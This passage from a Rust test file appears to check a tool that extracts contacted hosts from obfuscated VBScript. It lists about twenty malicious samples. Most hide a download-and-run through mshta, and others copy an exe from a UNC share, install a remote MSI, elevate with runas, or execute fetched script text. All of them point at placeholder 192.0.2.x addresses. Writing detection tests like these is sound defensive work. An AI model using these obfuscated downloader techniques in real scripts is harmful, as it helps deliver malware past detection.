        "Set q = CreateObject(\"System.Collections.Stack\")\nq.Push \"192.0.2.3/b\": q.Push \"http://\"\nDo While q.Count > 0\nu = u & q.Pop()\nLoop\nCreateObject(\"WScript.Shell\").Run \"mshta \" & u\n",
        &["http://192.0.2.3/b"],
    ),
    (
        "Set s = CreateObject(\"System.Text.StringBuilder\")\ns.Append_3 \"http://\"\ns.Append_3 \"192.0.2.4/b\"\nCreateObject(\"WScript.Shell\").Run \"mshta \" & s.ToString()\n",
        &["http://192.0.2.4/b"],
    ),
    (
        "CreateObject(\"WScript.Shell\").Run \"mshta \" & Unescape(\"http%3A%2F%2F192.0.2.5%2Fb\")\n",
        &["http://192.0.2.5/b"],
    ),
    (
        "u = Split(\"x|http://|192.0.2.6/b\", \"|\")(1) & Split(\"x|http://|192.0.2.6/b\", \"|\")(2)\nCreateObject(\"WScript.Shell\").Run \"mshta \" & u\n",
        &["http://192.0.2.6/b"],
    ),
    (
        "u = Chr(&O150) & Chr(&H74&) & Chr(&H74) & Chr(112) & \"://192.0.2.7/b\"\nCreateObject(\"WScript.Shell\").Run \"mshta \" & u\n",
        &["http://192.0.2.7/b"],
    ),
    (
        "Function R(s)\nIf Len(s) = 0 Then\nR = \"\"\nElse\nR = Right(s, 1) & R(Left(s, Len(s) - 1))\nEnd If\nEnd Function\nCreateObject(\"WScript.Shell\").Run \"mshta \" & R(\"b/8.2.0.291//:ptth\")\n",
        &["http://192.0.2.8/b"],
    ),
    (
        "i = 0\nDo\ni = i + 1\nSelect Case True\nCase i = 1: u = \"http://\"\nCase i = 2: u = u & \"192.0.2.9\"\nCase Else: u = u & \"/b\"\nEnd Select\nLoop While i < 3\nCreateObject(\"WScript.Shell\").Run \"mshta \" & u\n",
        &["http://192.0.2.9/b"],
    ),
    (
        "Class K\nPrivate d\nPrivate Sub Class_Initialize: Set d = CreateObject(\"Scripting.Dictionary\"): d(\"a\") = \"http://\": d(\"b\") = \"192.0.2.10/b\": End Sub\nPublic Property Get V(n): V = d(n): End Property\nPublic Default Property Get Z(n): Z = d(n): End Property\nEnd Class\nSet x = New K\nCreateObject(\"WScript.Shell\").Run \"mshta \" & x.V(\"a\") & x(\"b\")\n",
        &["http://192.0.2.10/b"],
    ),
    (
        "On Error Resume Next\nx = 1 / 0\nIf Err.Number = 11 Then u = \"http://192.0.2.11/b\" Else u = \"http://192.0.2.11/b\"\nCreateObject(\"WScript.Shell\").Run \"mshta \" & u\n",
        &["http://192.0.2.11/b"],
    ),
    (
        "Set e = CreateObject(\"System.Text.ASCIIEncoding\")\nb = e.GetBytes_4(\"http://192.0.2\" & \".12/b\")\nCreateObject(\"WScript.Shell\").Run \"mshta \" & e.GetString((b))\n",
        &["http://192.0.2.12/b"],
    ),
    (
        "Set s = CreateObject(\"Shell.Application\")\ns.NameSpace(\"C:\\Users\\Public\").CopyHere \"\\\\192.0.2.15\\s\\a.exe\"\n",
        &["192.0.2.15"],
    ),
    (
        "CreateObject(\"Scripting.FileSystemObject\").CopyFile \"\\\\192.0.2.16\\s\\a.exe\", \"C:\\Users\\Public\\a.exe\"\n",
        &["192.0.2.16"],
    ),
    (
        "CreateObject(\"WScript.Network\").MapNetworkDrive \"Z:\", \"\\\\192.0.2.17\\s\"\n",
        &["192.0.2.17"],
    ),
    (
        "Set i = CreateObject(\"WindowsInstaller.Installer\")\ni.UILevel = 2\ni.InstallProduct \"http://192.0.2.18/b.msi\", \"ACTION=INSTALL\"\n",
        &["http://192.0.2.18/b.msi"],
    ),
    (
        "Set c = GetObject(\"winmgmts:{impersonationLevel=impersonate,authenticationLevel=pktPrivacy}!\\\\.\\root\\cimv2:Win32_Process\")\nc.Create \"mshta http://192.0.2\" & \".19/b\", Null, Null, p\n",
        &["http://192.0.2.19/b"],
    ),
    (
        "If Not WScript.Arguments.Named.Exists(\"e\") Then\n CreateObject(\"Shell.Application\").ShellExecute \"wscript.exe\", \"\"\"\" & WScript.ScriptFullName & \"\"\" /e\", \"\", \"runas\", 1\n WScript.Quit\nEnd If\nCreateObject(\"WScript.Shell\").Run \"mshta http://192.0.2\" & \".20/b\"\n",
        &["http://192.0.2.20/b"],
    ),
    (
        "Set h = CreateObject(\"Msxml2.XMLHTTP.6.0\")\nh.onreadystatechange = GetRef(\"D\")\nh.open \"GET\", \"http://192.0.2\" & \".21/b\", True\nh.send\nSub D\nIf h.readyState = 4 Then Execute h.responseText\nEnd Sub\n",
        &["http://192.0.2.21/b"],
    ),
    (
        "u = Replace(Replace(Replace(\"h**p:||192_0_2_22|b\", \"*\", \"t\"), \"|\", \"/\"), \"_\", \".\")\nCreateObject(\"WScript.Shell\").Run \"mshta \" & u\n",
        &["http://192.0.2.22/b"],
    ),
    (
        "Set f = CreateObject(\"Scripting.FileSystemObject\")\nSet t = f.CreateTextFile(\"C:\\Users\\Public\\u.txt\")\nt.WriteLine \"http://192.0.2\"\nt.WriteLine \".23/b\"\nt.Close\na = Split(f.OpenTextFile(\"C:\\Users\\Public\\u.txt\").ReadAll, vbCrLf)\nCreateObject(\"WScript.Shell\").Run \"mshta \" & a(0) & a(1)\n",
        &["http://192.0.2.23/b"],
    ),
    (
        "For Each c In Array(105,117,117,113,59,48,48)\nu = u & Chr(c - 1)\nNext\nCreateObject(\"WScript.Shell\").Run \"mshta \" & u & \"192.0.2.24/b\"\n",
        &["http://192.0.2.24/b"],
    ),
];

#[test]
fn what_scripts_contact() {
    contacts(FORMS, run);
}
